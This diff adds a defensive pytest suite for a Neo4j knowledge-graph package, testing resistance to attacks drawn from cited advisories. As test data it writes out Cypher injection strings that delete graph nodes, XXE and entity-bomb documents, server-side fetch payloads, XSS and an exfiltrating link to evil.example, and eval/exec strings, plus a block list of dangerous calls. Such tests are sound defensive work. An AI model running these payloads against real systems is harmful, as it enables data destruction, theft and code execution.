@@ -1,0 +1,279 @@
+"""Attacks that comparable systems were open to, each tried here; what none of them may do.
+
+The sources are public: advisories, and threads of the projects named.
+"""
+
+from __future__ import annotations
+
+import ast
+import base64
+import io
+import json
+import zipfile
+from pathlib import Path
+
+import pytest
+from graphs import rows
+
+import kgp_neo4j
+from kgp_neo4j import Corpus
+from kgp_neo4j.corpus.load.delete import delete_corpus
+from kgp_neo4j.graphdb.database import Database
+from kgp_neo4j.mindmap.answer.ask_graph import ask_graph
+from kgp_neo4j.mindmap.load.graphs import delete_graph
+from kgp_neo4j.mindmap.load.load_graph import adopt_graph, load_graph
+from kgp_neo4j.show.answer_page import page as answer_page
+from kgp_neo4j.types.errors import ConfigurationError, KgpError
+
+#: Ways out of a quoted name, of a string and of a pattern. A tab before the backtick, and the
+#: backtick as an escape, got past checks that looked for the backtick alone.
+_WAYS_OUT = (
+    "X`) DETACH DELETE n //",
+    "X\t`) DETACH DELETE n //",
+    "X\\u0060) DETACH DELETE n //",
+    "X``) DETACH DELETE n //",
+    "x'}) MATCH (n) DETACH DELETE n //",
+    'x"}) MATCH (n) DETACH DELETE n //',
+    "User)--(n) DETACH DELETE n RETURN n//",
+    "a: 1} OR 1 = 1 //",
+    "$(x)",
+)
+
+
+def _count(database: Database) -> int:
+    (row,) = rows(database, "MATCH (n) RETURN count(n) AS count")
+    return int(row["count"])
+
+
+@pytest.mark.alone
+def test_names_of_relations_and_types_are_only_names(database: Database, tmp_path: Path) -> None:
+    """Labels and types that came from data closed the quoted name that they were put into.
+
+    graphiti CVE-2026-32247 (pull request 1312), awslabs/graphrag-toolkit pull request 328.
+    """
+    graph = "test-attacks"
+    path = tmp_path / "t.jsonl"
+    triples = [{"head": f"head {way}", "relation": way, "tail": f"tail {way}"} for way in _WAYS_OUT]
+    path.write_text("".join(json.dumps(triple) + "\n" for triple in triples))
+    before = _count(database)
+    try:
+        types = dict.fromkeys(_WAYS_OUT, ("Disease", "Symptom"))
+        report = load_graph(database, [path], graph, types=types, embed=False, keep_going=True)
+        # A name is kept as it is, or its line is refused.
+        assert set(report.relations) < set(_WAYS_OUT)
+        assert report.relationships + len(report.errors) == len(_WAYS_OUT)
+        assert report.relationships > len(report.errors)
+        for way in report.relations:
+            made = ask_graph(database, graph, f"What is {way} of head {way}?")
+            assert made.text
+    finally:
+        delete_graph(database, graph)
+    assert _count(database) == before
+
+
+@pytest.mark.parametrize("way", _WAYS_OUT)
+def test_labels_and_properties_are_looked_up_before_they_are_used(
+    database: Database, way: str
+) -> None:
+    """Keys of filters were put into the query as text while their values were parameters.
+
+    Spring AI CVE-2026-22743, MemTensor/MemOS issue 2205.
+    """
+    with pytest.raises(ConfigurationError, match="the database has no label"):
+        adopt_graph(database, "test-attacks", labels=[way], name_property="name")
+    with pytest.raises(ConfigurationError, match="the database has no property"):
+        adopt_graph(database, "test-attacks", labels=["Corpus"], name_property=way)
+
+
+def test_a_question_is_searched_for_and_nothing_else(database: Database, tmp_path: Path) -> None:
+    """Lucene's operators in a question reached documents of others, or broke the search."""
+    mine, other = "test attacks mine", "test attacks other"
+    operators = (
+        "scope:* OR text:*",
+        "* AND NOT (a) +b -c && d || !e [a TO z] {x TO *} ~2 ^9 /.*/ \\",
+        '"unclosed AND (',
+    )
+    try:
+        for name, text in ((mine, "The ferry sank."), (other, "The password is hunter2, x y z.")):
+            (tmp_path / "d.txt").write_text(text)
+            corpus = Corpus(name, database=database)
+            corpus.load([tmp_path / "d.txt"])
+            corpus.connect()
+        for question in (*_WAYS_OUT, *operators):
+            answer = Corpus(mine, database=database).ask(question)
+            assert "hunter2" not in answer.text
+            assert {passage.text for passage in answer.passages} <= {"The ferry sank."}
+        assert len(Corpus(other, database=database).passages()) == 1
+    finally:
+        for name in (mine, other):
+            delete_corpus(database, name)
+
+
+# --- Documents ------------------------------------------------------------------------------------
+
+
+def _word(document: str, relations: str = "", doctype: str = "") -> bytes:
+    """A Word file with this body, these relations and this document type."""
+    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+    office = "http://schemas.openxmlformats.org"
+    with zipfile.ZipFile(made := io.BytesIO(), "w") as package:
+        package.writestr(
+            "[Content_Types].xml",
+            f'<Types xmlns="{office}/package/2006/content-types"><Default Extension="rels" '
+            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override '
+            f'PartName="/word/document.xml" ContentType="{main}"/></Types>',
+        )
+        relation = f"{office}/officeDocument/2006/relationships"
+        package.writestr(
+            "_rels/.rels",
+            f'<Relationships xmlns="{office}/package/2006/relationships"><Relationship Id="r1" '
+            f'Type="{relation}/officeDocument" Target="word/document.xml"/></Relationships>',
+        )
+        package.writestr(
+            "word/_rels/document.xml.rels",
+            f'<Relationships xmlns="{office}/package/2006/relationships">{relations}'
+            "</Relationships>",
+        )
+        package.writestr(
+            "word/document.xml",
+            f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{office}/wordprocessingml/2006/'
+            f'main" xmlns:r="{relation}"><w:body>{document}</w:body></w:document>',
+        )
+    return made.getvalue()
+
+
+_PARAGRAPH = "<w:p><w:r><w:t>The ferry sank. {}</w:t></w:r></w:p>"
+
+
+def test_no_document_makes_us_ask_an_address_or_read_a_file(
+    database: Database, address: tuple[str, list[str]], tmp_path: Path
+) -> None:
+    """Pictures, entities and frames of documents were fetched by the server that read them.
+
+    infiniflow/ragflow issues 15214 (pictures in Markdown), 14088 (addresses) and 12037 (XML
+    entities, CVE-2025-66516).
+    """
+    url, asked = address
+    secret = tmp_path / "secret.txt"
+    secret.write_text("hunter2")
+    folder = tmp_path / "documents"
+    folder.mkdir()
+    external = (
+        f'<Relationship Id="p1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        f'relationships/attachedTemplate" Target="{url}" TargetMode="External"/>'
+    )
+    entities = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{secret}"><!ENTITY b SYSTEM "{url}">]>'
+    html = (
+        f'<p>The ferry sank.<img src="{url}"><iframe src="{url}"></iframe><link rel=stylesheet '
+        f'href="{url}"><object data="file://{secret}"></object><script src="{url}"></script>'
+    )
+    documents = {
+        "a.md": f"The ferry sank.\n\n![x]({url})\n\n<img src='{url}'>\n\n[b](file://{secret})\n",
+        "b.html": html,
+        "c.html": f"{entities}<p>The ferry sank. &a; &b;",
+        "d.csv": f'name,picture\nferry,"=WEBSERVICE(""{url}"")"\n',
+        "e.json": json.dumps([{"title": "x", "text": "The ferry sank.", "$ref": url}]),
+        "f.docx": _word(_PARAGRAPH.format(""), external),
+        "g.docx": _word(_PARAGRAPH.format("&a;&b;"), doctype=entities),
+    }
+    for name, text in documents.items():
+        (folder / name).write_bytes(text if isinstance(text, bytes) else text.encode())
+    corpus = Corpus("test attacks fetching", database=database)
+    try:
+        report = corpus.load([folder], keep_going=True)
+        assert report.documents >= 5
+        assert "hunter2" not in repr(corpus.passages())
+    finally:
+        corpus.delete()
+    assert asked == []
+
+
+def test_entities_that_multiply_are_not_expanded(tmp_path: Path) -> None:
+    """A few lines of XML that stand for gigabytes: ten entities, each ten times the one before."""
+    from kgp_neo4j.corpus.load.formats import read
+    from kgp_neo4j.environment.progress import bar
+
+    levels = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 12))
+    doctype = f'<!DOCTYPE x [<!ENTITY e0 "ferry ">{levels}]>'
+    path = tmp_path / "much.docx"
+    path.write_bytes(_word(_PARAGRAPH.format("&e11;"), doctype=doctype))
+    with bar("read", None) as progress:
+        (found,) = read(path, progress)
+    assert isinstance(found, KgpError) or len(found.text) < 1000
+
+
+def test_a_page_shows_what_documents_say_and_runs_none_of_it(
+    database: Database, tmp_path: Path
+) -> None:
+    """Markup, links and pictures in documents and answers carried data out of chat pages."""
+    hostile = (
+        "The ferry <img src=x onerror=alert(1)> sank. <script>alert(1)</script> "
+        "![x](http://evil.example/?d=1) [a](javascript:alert(1)) </style><svg onload=alert(1)>"
+    )
+    (tmp_path / "d.txt").write_text(hostile)
+    corpus = Corpus("test attacks page", database=database)
+    try:
+        corpus.load([tmp_path / "d.txt"])
+        corpus.connect()
+        page = answer_page(corpus.ask("What sank?"))
+    finally:
+        corpus.delete()
+    assert "The ferry" in page
+    for live in ("<img src=x", "<script>alert", "<svg onload", 'src="http', 'href="javascript'):
+        assert live not in page
+
+
+# --- Code -----------------------------------------------------------------------------------------
+
+
+def test_nothing_is_evaluated_or_unpickled() -> None:
+    """Replies of models were passed to `eval` (HippoRAG), and weights were pickles.
+
+    No call in the package evaluates text, unpickles, or starts a shell.
+    """
+    forbidden = {
+        "eval", "exec", "compile", "__import__", "os.system", "os.popen", "subprocess.getoutput",
+        "subprocess.getstatusoutput",
+    }  # fmt: skip
+    modules = {"pickle", "cPickle", "dill", "shelve", "marshal", "joblib", "yaml", "pty"}
+    found = []
+    for path in sorted(Path(kgp_neo4j.__file__).parent.rglob("*.py")):
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            names = []
+            if isinstance(node, ast.Call):
+                called = ast.unparse(node.func)
+                options = {each.arg: ast.unparse(each.value) for each in node.keywords}
+                unsafe = called == "torch.load" and options.get("weights_only") != "True"
+                if called in forbidden or unsafe or options.get("shell", "False") != "False":
+                    names = [called]
+            elif isinstance(node, ast.Import | ast.ImportFrom):
+                of = getattr(node, "module", None)
+                imported = [of or ""] if of else [each.name for each in node.names]
+                names = [name for name in imported if name.partition(".")[0] in modules]
+            found += [f"{path.name}:{node.lineno} {name}" for name in names]  # type: ignore[attr-defined]
+    assert found == []
+
+
+def test_a_reply_is_never_run(database: Database, tmp_path: Path) -> None:
+    """What a model writes is text, also where it looks like Python, Cypher or a template."""
+    mark = tmp_path / "ran"
+    coded = base64.b64encode(f"open({str(mark)!r}, 'w')".encode()).decode()
+    said = (
+        f"__import__('os').system('touch {mark}')",
+        f"[x for x in [open({str(mark)!r}, 'w')]]",
+        f"```python\nexec(__import__('base64').b64decode('{coded}'))\n```",
+        "MATCH (n) DETACH DELETE n",
+        "{{ ''.__class__.__mro__ }}",
+    )
+    path = tmp_path / "t.tsv"
+    path.write_text("flu\thas symptom\tfever\n")
+    graph = "test-attacks-reply"
+    before = _count(database)
+    try:
+        load_graph(database, [path], graph, embed=False)
+        for reply in said:
+            ask_graph(database, graph, "What is a symptom of flu?", write=lambda _, r=reply: r)
+    finally:
+        delete_graph(database, graph)
+    assert not mark.exists()
+    assert _count(database) == before
